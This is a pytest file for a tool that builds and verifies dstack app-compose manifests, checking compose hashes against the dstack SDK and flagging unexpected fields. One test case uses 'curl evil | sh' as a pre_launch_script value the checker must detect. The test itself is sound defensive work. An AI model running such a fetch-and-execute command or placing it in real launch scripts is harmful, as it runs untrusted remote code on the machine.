import hashlib
import json

import pytest
from dstack_sdk import get_compose_hash
from phala.app_compose import Manifest, Terms, differences, make, normal_form
from phala.refused import Refused
from phala.template import Filled

COMPOSE = Filled('services:\n  worker:\n    image: "x"  # é\n', ("INIT_ACCOUNT_PRIVATE_KEY",))


@pytest.mark.parametrize("terms", [Terms("worker"), Terms("w", no_instance_id=False, public_logs=False, gateway=False)])
def test_the_compose_hash_is_the_one_of_dstacks_sdk(terms):
    made = make(COMPOSE, terms)
    assert made.compose_hash.hex() == get_compose_hash(json.loads(made.text))
    assert made.compose_hash == hashlib.sha256(made.text.encode()).digest()
    assert made.default_app_id == made.compose_hash[:20]


def test_the_normal_form_is_the_one_of_dstacks_sdk_in_whatever_order_the_fields_came():
    fields = {"runner": "docker-compose", "name": "é", "docker_config": {"username": "b", "registry": "a"}, "allowed_envs": ["B", "A"]}
    assert hashlib.sha256(normal_form(fields).encode()).hexdigest() == get_compose_hash(json.loads(json.dumps(fields)))


def test_the_hash_of_a_file_is_that_of_its_bytes(tmp_path):
    """dstack measures the file; what its fields are in another order is another app."""
    loose = '{"runner": "docker-compose",  "name":"a"}\n'
    (tmp_path / "a.json").write_text(loose)
    assert Manifest.from_file(tmp_path / "a.json").compose_hash == hashlib.sha256(loose.encode()).digest()


def test_what_is_made_starts_the_compose_text_and_nothing_else():
    assert differences(make(COMPOSE, Terms("a")), COMPOSE.text) == []


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        ({"docker_compose_file": "services: {}"}, "another text"),
        ({"pre_launch_script": "curl evil | sh"}, "pre_launch_script is set"),
        ({"init_script": ["x"]}, "init_script is set"),
        ({"allowed_envs": ["INIT_ACCOUNT_PRIVATE_KEY", "NEAR_RPC_URL"]}, "lets in NEAR_RPC_URL"),
        ({"runner": "bash"}, "runner is 'bash'"),
        ({"allowed_envs": {"NEAR_RPC_URL": 1}}, "no list"),
    ],
)
def test_whatever_else_a_machine_would_do_is_told(changed, told):
    fields = make(COMPOSE, Terms("a")).fields | changed
    (difference,) = differences(Manifest(json.dumps(fields), fields), COMPOSE.text)
    assert told in difference


@pytest.mark.parametrize("text", ["", "[]", "{}", "[" * 100_000, '{"name":"a"}'])
def test_a_file_of_another_shape_is_refused(tmp_path, text):
    (tmp_path / "a.json").write_text(text)
    with pytest.raises(Refused, match=r"a\.json is no"):
        Manifest.from_file(tmp_path / "a.json")


@pytest.mark.parametrize("name", ["", "a" * 64, "a b", "é", "a/b"])
def test_a_name_that_dstack_would_not_take_is_refused(name):
    with pytest.raises(Refused, match="--name"):
        make(COMPOSE, Terms(name))


@pytest.mark.parametrize(
    ("fields", "provider"),
    [
        ({"kms_enabled": True}, "kms"),
        ({"key_provider": "local"}, "local-sgx"),
        ({"local_key_provider_enabled": True}, "local-sgx"),
        ({}, "none"),
    ],
)
def test_the_key_provider_is_named_as_in_the_event_log(fields, provider):
    assert Manifest("", fields).key_provider == provider
